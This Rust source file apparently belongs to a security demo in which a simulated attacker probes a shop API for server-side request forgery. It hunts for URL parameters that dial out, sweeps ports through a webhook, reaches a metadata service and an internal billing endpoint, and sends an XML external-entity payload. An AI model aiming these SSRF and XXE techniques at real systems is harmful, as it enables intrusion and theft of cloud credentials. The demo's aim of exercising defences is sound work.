//! What the attacker does.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sortie_model::AddressClass;

use super::ATTACKER;
use super::client::{Client, Reply};
use crate::sites::{CREDIT, USER_DATA};
use crate::{Arrivals, Atlas, DemoError, Site};

/// A customer who does not order in this hour: whoever reads this file was sent for it.
const VICTIM: &str = "willow";
/// Characters of loot that are shown.
const SHOWN: usize = 60;

/// One attack, in the order in which they come.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Attack {
    /// Which parameter dials at all: a harmless URL in each of them.
    Hunt,
    /// Which ports of the shop's own host are open, through the webhook parameter.
    Sweep,
    /// The metadata service, through a redirect of the attacker's host.
    Redirect,
    /// The billing service, which the shop itself calls all day.
    Billing,
    /// The metadata service, through an external entity of an XML upload.
    Entity,
}

/// One thing that was sent, and what came of it.
#[derive(Clone, Debug)]
pub struct Step {
    /// The request.
    pub sent: String,
    /// The answer, as the attacker reads it.
    pub got: String,
}

/// An attack that took place.
#[derive(Clone, Debug)]
pub struct Deed {
    /// Which.
    pub attack: Attack,
    /// What was sent and what came back.
    pub steps: Vec<Step>,
    /// Requests that ordered a dial at [`Attack::path`].
    pub orders: u64,
    /// How often a denied destination was reached, by that destination's own account.
    pub reached: usize,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 5] = [Self::Hunt, Self::Sweep, Self::Redirect, Self::Billing, Self::Entity];

    /// What it is about, in few words.
    pub fn title(self) -> &'static str {
        match self {
            Self::Hunt => "hunt for a parameter that dials",
            Self::Sweep => "port sweep through the webhook",
            Self::Redirect => "metadata through a redirect",
            Self::Billing => "a call to billing, by order",
            Self::Entity => "metadata through an XML entity",
        }
    }

    /// The path where it strikes.
    pub fn path(self) -> &'static str {
        match self {
            Self::Hunt | Self::Sweep => "/v1/hooks",
            Self::Redirect | Self::Billing => "/v1/preview",
            Self::Entity => "/v1/catalog",
        }
    }

    /// The destination that policy denies by order; none where the attacker only calls himself.
    pub fn denied(self) -> Option<Site> {
        match self {
            Self::Hunt => None,
            Self::Sweep => Some(Site::Ops),
            Self::Redirect | Self::Entity => Some(Site::Metadata),
            Self::Billing => Some(Site::Billing),
        }
    }

    /// The class under which its destination is found.
    pub fn class(self, atlas: &Atlas) -> AddressClass {
        atlas.class(self.denied().unwrap_or(Site::Cdn))
    }
}

/// Carries an attack out.
pub(crate) async fn perform(
    attack: Attack,
    client: &Client,
    atlas: &Atlas,
    arrivals: &Arrivals,
) -> Result<Deed, DemoError> {
    let before = arrivals.count();
    let steps = match attack {
        Attack::Hunt => hunt(client, atlas, arrivals).await?,
        Attack::Sweep => sweep(client, atlas).await?,
        Attack::Redirect => vec![preview(client, &format!("http://{}/r", atlas.authority(Site::Cdn))).await?],
        Attack::Billing => {
            let file = format!("http://{}{CREDIT}{VICTIM}", atlas.authority(Site::Billing));
            vec![preview(client, &file).await?]
        }
        Attack::Entity => {
            vec![entity(client, &format!("http://{}{USER_DATA}", atlas.authority(Site::Metadata))).await?]
        }
    };
    let came = arrivals.since(before);
    let reached = came.iter().filter(|arrival| Some(arrival.site) == attack.denied()).count();
    let orders = if attack == Attack::Sweep { atlas.knocked().len() as u64 } else { 1 };
    Ok(Deed { attack, steps, orders, reached })
}

/// A URL of the attacker's own in every parameter; where the host is called, the parameter dials.
async fn hunt(client: &Client, atlas: &Atlas, arrivals: &Arrivals) -> Result<Vec<Step>, DemoError> {
    let canary = |number: usize| format!("http://{}/c{number}", atlas.authority(Site::Cdn));
    let tries = [
        ("PUT /v1/profile", json!({ "website": canary(1) })),
        ("POST /v1/hooks", json!({ "url": canary(2) })),
        ("POST /v1/preview", json!({ "url": canary(3) })),
    ];
    let mut steps = Vec::new();
    for (operation, body) in tries {
        let before = arrivals.count();
        let reply = client.send(&ATTACKER, operation, &body).await?;
        let is_called = arrivals.since(before).iter().any(|arrival| arrival.site == Site::Cdn);
        let got = if is_called { "my host is called" } else { "nothing comes" };
        steps.push(Step { sent: format!("{operation} {body}"), got: format!("{}; {got}", reply.status) });
    }
    Ok(steps)
}

/// A webhook to each port; the answer tells which are open.
async fn sweep(client: &Client, atlas: &Atlas) -> Result<Vec<Step>, DemoError> {
    let host = atlas.address(Site::Ops);
    let mut open = Vec::new();
    let mut shut = 0;
    let mut refused = 0;
    for port in atlas.knocked() {
        let reply =
            client.send(&ATTACKER, "POST /v1/hooks", &json!({ "url": format!("http://{host}:{port}/") })).await?;
        match reply.status {
            201 if reply.body["delivered"] == true => open.push(port.to_string()),
            201 => shut += 1,
            _ => refused += 1,
        }
    }
    let mut got = Vec::new();
    if !open.is_empty() {
        got.push(format!("{} is open", open.join(", ")));
    }
    if shut > 0 {
        got.push(format!("{shut} look closed"));
    }
    if refused > 0 {
        got.push(format!("{refused} refused with 403"));
    }
    let ports: Vec<String> = atlas.knocked().iter().map(u16::to_string).collect();
    let sent = format!("POST /v1/hooks {{\"url\":\"http://{host}:{{{}}}/\"}}", ports.join(","));
    Ok(vec![Step { sent, got: got.join(", ") }])
}

async fn preview(client: &Client, url: &str) -> Result<Step, DemoError> {
    let body = json!({ "url": url });
    let reply = client.send(&ATTACKER, "POST /v1/preview", &body).await?;
    let page = reply.body["preview"].as_str().and_then(|text| STANDARD.decode(text).ok()).unwrap_or_default();
    let shown = String::from_utf8_lossy(&page);
    Ok(Step { sent: format!("POST /v1/preview {body}"), got: answer(&reply, &reply.body["status"], &shown) })
}

async fn entity(client: &Client, url: &str) -> Result<Step, DemoError> {
    let document = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE catalog [<!ENTITY loot SYSTEM \"{url}\">]>\n<catalog><article>&loot;</article></catalog>"
    );
    let reply = client.send_as(&ATTACKER, "POST /v1/catalog", "application/xml", document).await?;
    let shown = reply.body["added"][0].as_str().unwrap_or_default().to_owned();
    let sent = format!("POST /v1/catalog <!DOCTYPE catalog [<!ENTITY loot SYSTEM \"{url}\">]> …&loot;…");
    Ok(Step { sent, got: answer(&reply, &Value::Null, &shown) })
}

/// What the attacker reads: the loot, or that there is none.
fn answer(reply: &Reply, inner: &Value, loot: &str) -> String {
    let is_loot = reply.status < 300 && inner.as_u64().unwrap_or(200) == 200 && !loot.is_empty();
    if !is_loot {
        return match inner.as_u64().filter(|_| reply.status < 300) {
            Some(inner) => format!("{}, with {inner} from behind; nothing of use", reply.status),
            None => format!("{}; nothing of use", reply.status),
        };
    }
    let words: Vec<&str> = loot.split_whitespace().collect();
    let line = words.join(" ");
    let cut: String = line.chars().take(SHOWN).collect();
    format!("{} bytes: {cut}…", loot.len())
}
